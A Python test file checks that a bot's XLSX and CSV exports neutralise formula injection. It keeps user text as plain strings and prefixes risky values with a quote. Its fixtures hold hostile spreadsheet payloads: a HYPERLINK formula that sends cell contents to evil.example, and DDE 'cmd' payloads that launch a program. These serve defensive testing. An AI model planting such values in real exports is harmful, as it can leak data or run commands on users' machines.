"""User text in exports is text, never a formula; only the report's totals are formulas."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from bot.documents.cells import csv_text
from bot.documents.report_table import Signatures
from bot.documents.xlsx import build_workbook
from bot.services.stats.export_data import export_data
from bot.services.stats.export_rows import DirectiveRow, HistoryRow, OpinionRow
from bot.texts import translator
from models import ThreadMessageKind, ThreadSide, ThreadStatus
from models.db import Database
from tests.cli_helpers import run_cli

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
NOW = datetime(2026, 11, 26, 9, 0, tzinfo=TZ)
EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


async def test_every_user_text_cell_is_text_and_only_totals_are_formulas(
    db: Database, units: None
) -> None:
    content = await export_data(db, NOW, TZ, "weekly")
    hostile = replace(
        content,
        units=[
            replace(stat, name=EVIL[i % 4], reporter=EVIL[(i + 1) % 4])
            for i, stat in enumerate(content.units)
        ],
        history=[HistoryRow(NOW, EVIL[0], 5, 1, EVIL[1], EVIL[2])],
        directives=[DirectiveRow(NOW, EVIL[3], EVIL[0], 3, 2, 1, 1)],
        opinions=[
            OpinionRow(
                NOW,
                EVIL[1],
                EVIL[2],
                ThreadSide.UNIT,
                ThreadMessageKind.NOTE,
                EVIL[3],
                ThreadStatus.OPEN,
            )
        ],
    )
    signers = Signatures(EVIL[0], EVIL[1], EVIL[2], EVIL[3])
    content_bytes = build_workbook(hostile, EVIL[1], signers, TZ, translator("vi"))
    workbook = load_workbook(io.BytesIO(content_bytes))
    formulas, hostile_cells = [], 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((sheet.title, cell.coordinate, cell.value))
                if isinstance(cell.value, str) and any(e in cell.value for e in EVIL):
                    hostile_cells += 1
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
    assert hostile_cells >= 2 * len(content.units) + 8, "the hostile text was not written"
    summary = translator("vi").plain("xlsx.sheet.summary")
    # Subtotals per section, the grand total and the shares: the report's own, nothing else
    # (figures in C–F, evidence counts in I).
    assert formulas and {title for title, _, _ in formulas} == {summary}
    own = re.compile(
        r'=(SUM\([C-FI]\d+:[C-FI]\d+\)|IF\(C\d+>0,D\d+/C\d+,""\)|[C-FI]\d+(\+[C-FI]\d+)*)'
    )
    assert all(own.fullmatch(str(value)) for _, _, value in formulas), formulas


def test_csv_text_prefixes_what_a_spreadsheet_would_run() -> None:
    assert [csv_text(value) for value in EVIL] == ["'" + value for value in EVIL]
    assert csv_text("Thôn 1") == "Thôn 1"
    assert csv_text("\t=1") == "'\t=1"


def test_invites_csv_never_carries_a_formula(db_url: str, tmp_path: Path) -> None:
    units = tmp_path / "units.csv"
    units.write_text(
        'code,name,kind,adults\nX1,"=HYPERLINK(""http://evil.example"",""Xem"")",thon,10\n'
        "X2,@SUM(1),thon,10\n",
        encoding="utf-8",
    )
    assert run_cli(["units", "import", str(units)], DATABASE_URL=db_url).returncode == 0
    result = run_cli(["invites", "--csv"], DATABASE_URL=db_url, BOT_USERNAME="eaknop_bot")
    assert result.returncode == 0, result.stderr
    names = {row[0]: row[1] for row in csv.reader(io.StringIO(result.stdout))}
    assert names["X1"] == '\'=HYPERLINK("http://evil.example","Xem")'
    assert names["X2"] == "'@SUM(1)"
